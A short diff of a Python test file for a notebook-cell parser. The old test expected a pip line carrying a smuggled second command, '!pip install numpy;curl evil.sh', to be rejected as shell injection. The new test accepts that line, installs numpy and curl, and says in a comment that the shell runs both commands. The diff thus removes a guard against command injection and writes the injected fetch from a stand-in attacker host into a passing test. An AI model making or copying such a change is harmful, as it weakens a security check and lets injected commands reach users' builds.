@@ -101,9 +101,11 @@ def test_conflicting_reads_name_both_cells(tmp_path: Path) -> None:
     assert info.value.where == "cell 2"
 
 
-def test_shell_injection_in_pip_line_names_the_cell(tmp_path: Path) -> None:
-    with pytest.raises(OperatorError, match=r"\(cell 2\):1: .*shell character ';'"):
-        parse_cells(tmp_path, [("code", "import os"), ("code", "!pip install numpy;curl evil.sh")])
+def test_shell_line_with_two_commands_installs_only_the_package(tmp_path: Path) -> None:
+    # As in Jupyter, the shell runs both commands at run time; only the package reaches the image build.
+    spec = parse_cells(tmp_path, [("code", "import os"), ("code", "!pip install numpy;curl evil.sh")])
+    assert spec.packages(DependencyKind.PIP) == ("numpy",)
+    assert spec.packages(DependencyKind.APT) == ("curl",)  # the command curl needs its Debian package
 
 
 def test_invalid_json_gives_the_json_line(tmp_path: Path) -> None:
